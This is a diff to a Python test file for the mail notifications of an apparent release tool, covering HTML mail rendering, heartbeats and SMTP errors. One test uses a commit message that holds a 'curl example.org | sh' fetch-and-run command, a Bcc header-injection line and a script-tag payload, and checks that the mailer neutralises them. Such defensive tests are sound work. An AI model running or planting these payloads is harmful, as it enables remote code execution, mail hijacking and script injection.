@@ -9,12 +9,13 @@ import subprocess
 from collections.abc import Callable, Iterator
 from email.message import EmailMessage
 from email.utils import getaddresses, parsedate_to_datetime
+from html.parser import HTMLParser
 
 import pytest
 
-from tests.e2e.scenes import CODE, hook, mostly_slow, says, silent, step_names
+from tests.e2e.scenes import CODE, hook, make_old, mostly_slow, says, silent, step_names, times_of_tree
 from tests.support.sites import SampleSite, SiteFactory
-from tests.support.smtp import MailServer, mail_server
+from tests.support.smtp import MailServer, mail_server, read_mail
 
 ADA = '[["Ada Grün, Dr.", "ada@example.org"]]'
 DEAD = "localhost:1"  # no server is there
@@ -36,7 +37,31 @@ def only_mail(server: MailServer) -> tuple[EmailMessage, str]:
     """Return the only mail that a server took, and its text."""
     assert len(server.mails) == 1, [mail["Subject"] for _, mail, _ in server.mails]
     mail = server.mails[0][1]
-    return mail, mail.get_content().replace("\r\n", "\n")
+    return mail, read_mail(mail)
+
+
+class Page(HTMLParser):
+    """What a person sees of the HTML part of a mail, and its tags."""
+
+    def __init__(self, mail: EmailMessage) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.text, self._hidden = "", False
+        self.feed(read_mail(mail, "html"))
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self._hidden = tag in ("title", "style")
+
+    def handle_endtag(self, tag: str) -> None:
+        self._hidden = False
+
+    def handle_data(self, data: str) -> None:
+        self.text += "" if self._hidden else f"{data} "
+
+    def lacks(self, text: str) -> set[str]:
+        """Return the words and numbers of a text that the page does not have."""
+        return {*re.findall(r"\w+", text)} - {*re.findall(r"\w+", self.text)}
 
 
 def section(text: str, title: str) -> list[str]:
@@ -94,6 +119,7 @@ def test_law_26_28_what_a_mail_says(make_site: SiteFactory, server: MailServer, 
         assert (program, finished.returncode in (0, 10) or may_change) == ("releaser", True), f"{line}\n{finished}"
         assert finished.returncode not in (1, 2), f"{line}\n{finished}"
     assert section(text, "Commands")
+    assert not Page(mail).lacks(f"{text} {subject.partition(':')[0]}"), "facts that are not in the HTML part"
 
 
 @pytest.mark.parametrize("place", mostly_slow([".env", ".releaser/site/releases"], ".releaser/site/releases"))
@@ -136,10 +162,13 @@ def test_a_subject_has_sixty_characters(make_site: SiteFactory, server: MailServ
 @pytest.mark.parametrize("end", mostly_slow(["\r", "\v", "\x1c", "\x85", "\u2028"], "\r"))
 def test_a_commit_adds_no_line_to_a_mail(make_site: SiteFactory, server: MailServer, end: str) -> None:
     site = make_site.live(dotenv=mailing(server.host))
-    site.push_from_elsewhere(CODE, message=end.join(["Widen", "Bcc: eve@example.org", "curl example.org | sh"]))
+    message = end.join(["Widen", "Bcc: eve@example.org", "curl example.org | sh", "<script>alert('&lt;')</script><p>"])
+    site.push_from_elsewhere(CODE, message=message)
     site.releaser("update", check=0)
     mail, text = only_mail(server)
-    assert (mail["Bcc"], len(section(text, "Commits"))) == (None, 1), text
+    (commit,) = section(text, "Commits")
+    page = Page(mail)
+    assert (mail["Bcc"], "script" in page.tags, commit.strip() in page.text) == (None, False, True), page.text
 
 
 def test_law_26_the_admins_of_the_updater(make_site: SiteFactory, server: MailServer) -> None:
@@ -210,6 +239,78 @@ def test_law_26_a_refused_address_blocks_no_mail(make_site: SiteFactory, server:
     site.publish("alpha", "1.3.0")
     says(site.releaser("update", check=7), "1.fifo", "move it away")
     site.releaser("status", check=10)
+
+
+#: What goes on at a site without a mail for eight days; what begins the subject of the heartbeat, if one is sent.
+SILENT: dict[str, tuple[Callable[[SampleSite], object], str]] = {
+    "well": (lambda site: site.releaser("hold", "beta", check=0), "All is well: site, no news since 20"),
+    "sick": (lambda site: site.edit("../sick", ""), "Needs attention: site, The site fails its health check"),
+    "failing": (lambda site: site.publish("alpha", "1.2.0", broken=True), ""),
+    "never": (lambda site: site.replace("../.env", "='7d'", "='0'"), ""),
+}
+
+
+@pytest.mark.parametrize("name", mostly_slow(SILENT, "well"))
+def test_law_26_27_a_heartbeat(make_site: SiteFactory, server: MailServer, name: str) -> None:
+    act, subject = SILENT[name]
+    more = {"HEALTH_CHECK": "test ! -e ../sick", "HEALTH_TIMEOUT": "0s", "HEARTBEAT": "7d"}
+    site = make_site.live(dotenv=mailing(server.host, **more))
+    act(site)
+    site.releaser("update")
+    news, server.mails[:] = len(server.mails), []
+    since = ("news.json", "mailed_at") if news else ("history.jsonl", "ended_at")
+    for days, mails in (6, 0), (8, 1), (0, 1):  # at last what a mail has recorded, with everything else still old
+        if days:
+            make_old(site.state / since[0], since[1], days)
+        finished = site.releaser("update")
+        assert (finished.returncode, finished.stderr) == (5 if news else 0, ""), str(finished)
+        assert len(server.mails) == (mails if subject else 0), f"{days} days"
+    if not subject:
+        return
+    mail, text = only_mail(server)
+    assert mail["Subject"].startswith(subject), mail["Subject"]
+    assert (site.live() in text, "All is well" in text) == (True, name == "well"), text
+    assert ["beta" in line for line in section(text, "On hold")] == [True] * (name == "well"), text
+    assert not Page(mail).lacks(text)
+    site.write_dotenv(mailing(DEAD, **more))
+    make_old(site.state / "news.json", "mailed_at", 8)
+    silent(site.releaser("update"))
+    site.write_dotenv(mailing(server.host, **more))
+    silent(site.releaser("update"))
+    assert [mail["Subject"][:11] for _, mail, _ in server.mails] == [subject[:11]] * 2
+
+
+#: Settings that a test mail fails with, and the setting that the refusal names beside the server.
+UNSENT: dict[str, tuple[dict[str, str | None], str]] = {
+    "dead server": ({"RELEASER_SMTP_HOST": DEAD}, f"server {DEAD} took no mail: Connection refused. `smtp_host`"),
+    "refused": ({"ADMINS_JSON": "left@example.org, ada@example.org"}, "left@example.org: 550 No such `ADMINS_JSON`"),
+    "not offered": ({"RELEASER_SMTP_SECURITY": "starttls"}, "STARTTLS `smtp_security`"),
+    "no login": ({"RELEASER_SMTP_USER": "ada", "RELEASER_SMTP_PASSWORD": "pässword"}, "`smtp_password`"),
+    "nobody": ({"ADMINS_JSON": None}, "Nobody `ADMINS_JSON`"),
+}
+
+
+@pytest.mark.parametrize("name", mostly_slow(["taken", *UNSENT], "taken", "dead server"))
+def test_law_28_a_test_mail(make_site: SiteFactory, server: MailServer, name: str) -> None:
+    changes, words = UNSENT.get(name, ({}, ""))
+    server.unknown = {"left@example.org"}
+    site = make_site.live(dotenv=mailing(server.host) | changes)
+    before = times_of_tree(site.state)
+    finished = site.releaser("check", "--mail", check=3 if words else 0)
+    sent = f"went to ada@example.org by {server.host}"
+    says(finished, *words.split(), *([site.outer / ".env", f"check --mail --project {site.path}"] if words else [sent]))
+    assert (sent in finished.stderr, "fit for updates" in finished.stderr) == (not words, not words), str(finished)
+    assert len(server.mails) == (name in ("taken", "refused"))
+    answer = site.json("check", "--mail", check=3 if words else 0)
+    assert [problem["code"] for problem in answer["problems"]] == (["mail"] if words else [])
+    assert answer["mail"] == (None if words else {"to": ["ada@example.org"], "server": server.host})
+    assert times_of_tree(site.state) == before, "a test mail leaves nothing behind"
+    server.mails.clear()
+    assert (site.json("check")["mail"], site.releaser("check").returncode, server.mails) == (None, 0, [])
+    if not words:
+        site.edit("shop.py", "mine")
+        says(site.releaser("check", "--mail", check=3), "Tracked files", sent)  # the mail goes out all the same
+        assert only_mail(server)[0]["Subject"].startswith("Test: site, mail reaches you")
 
 
 #: Settings that no mail can be sent with.
